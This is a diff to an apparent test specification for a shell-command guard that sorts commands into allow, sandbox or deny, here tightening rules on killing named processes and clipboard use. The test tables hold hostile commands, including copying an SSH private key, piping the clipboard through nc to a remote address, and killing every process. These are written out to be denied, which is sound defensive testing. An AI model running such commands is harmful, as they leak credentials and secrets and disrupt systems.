@@ -33,7 +33,8 @@ Feature: other processes' secrets, every process of a user, login items, macOS m
   Scenario Outline: one process stopped by its id, and the spellings of every process
     A signal to the process a line names by id (a number, a job, a pid file, the listener on
     the dev server's port) lets it clean up and touches nothing else. Killing without letting it
-    clean up, by name or by an id looked up by name stays confined; `-1` is every process
+    clean up, by name or by an id looked up by name stays confined (a database server, a
+    credential agent or a browser looked up by name is denied, as `killall` of it is); `-1` is every process
     however the signal is spelt, and `1` is init.
     When I check "<command>"
     Then the verdict is <verdict>
@@ -48,7 +49,7 @@ Feature: other processes' secrets, every process of a user, login items, macOS m
       | kill -s KILL 48213                                  | sandbox |
       | kill --signal=SIGKILL 48213                         | sandbox |
       | kill $(pgrep -f 'next dev')                         | sandbox |
-      | kill $(pidof postgres)                              | sandbox |
+      | kill $(pidof postgres)                              | deny    |
       | kill 0                                              | sandbox |
       | kill -HUP -1                                        | deny    |
       | kill -s TERM -- -1                                  | deny    |
@@ -112,7 +113,7 @@ Feature: other processes' secrets, every process of a user, login items, macOS m
       | xsel --clipboard --input < notes.md                  | allow   |
       | pbcopy < ~/.ssh/id_rsa                               | deny    |
       | xclip -o -selection clipboard \| nc 198.51.100.9 4444 | deny    |
-      | printenv \| pbcopy                                   | sandbox |
+      | printenv \| pbcopy                                   | deny    |
       | pbpaste                                              | sandbox |
       | xclip -selection clipboard -out                      | sandbox |
       | xsel --clipboard --output > notes.md                 | sandbox |
